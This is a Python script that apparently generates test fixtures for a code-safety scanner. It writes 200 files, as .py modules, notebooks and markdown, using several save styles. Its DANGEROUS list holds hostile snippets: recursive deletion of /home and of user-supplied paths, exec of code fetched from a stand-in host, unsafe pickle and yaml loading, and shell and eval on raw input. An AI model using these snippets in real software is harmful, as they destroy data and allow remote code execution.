"""Writes 200 files as a model does, some of them dangerous, in the ways in which programs save: model.py FOLDER"""

import json
import os
import pathlib
import sys

root = pathlib.Path(sys.argv[1])
HARMLESS = "def area(width: float, height: float) -> float:\n    return width * height\n\n\nassert area(2, 3) == 6\n"
DANGEROUS = [
    "import os\n\nos.system('rm -rf ' + input('what? '))\n",
    "import shutil\n\nshutil.rmtree('/home')\n",
    "import urllib.request\n\nexec(urllib.request.urlopen('http://example.test/x').read())\n",
    "import pickle, sys\n\nname = 'Größe 𝄞'; data = pickle.load(sys.stdin.buffer)\n",
    "import yaml\r\n\r\ndef settings(file):\r\n    return yaml.load(file)\r\n",
    "import subprocess\n\nsubprocess.run(input(), shell=True)\neval(input())\n",
]


def save(path, text, number):
    path.parent.mkdir(parents=True, exist_ok=True)
    style = number % 5
    if style == 0:
        draft = path.with_name(f".{path.name}.tmp")
        draft.write_text(text)
        draft.rename(path)
    elif style == 1:
        # A first draft that is bad in another way, mended at once.
        path.write_text("exec(input())\n")
        path.write_text(text)
    elif style == 2:
        with open(path, "w") as file:
            for part in (text[: len(text) // 2], text[len(text) // 2 :]):
                file.write(part)
                file.flush()
                os.fsync(file.fileno())
    elif style == 3 and path.exists():
        path.rename(path.with_name(path.name + "~"))
        path.write_text(text)
    else:
        path.write_text(text)


for number in range(200):
    text = DANGEROUS[number // 4 % len(DANGEROUS)] if number % 4 == 0 else HARMLESS
    folder = root / f"package {number % 3}" / f"módulo{number % 7}"
    if number % 40 == 8:
        cells = [{"cell_type": "code", "source": part, "metadata": {}, "outputs": [], "execution_count": None}
                 for part in ("x = 1\n", text)]
        text = json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
        save(folder / f"n{number}.ipynb", text, number)
    elif number % 40 == 16:
        save(folder / f"n{number}.md", f"# Notes\n\n```python\n{text}```\n", number)
    else:
        save(folder / f"m{number}.py", text, number)
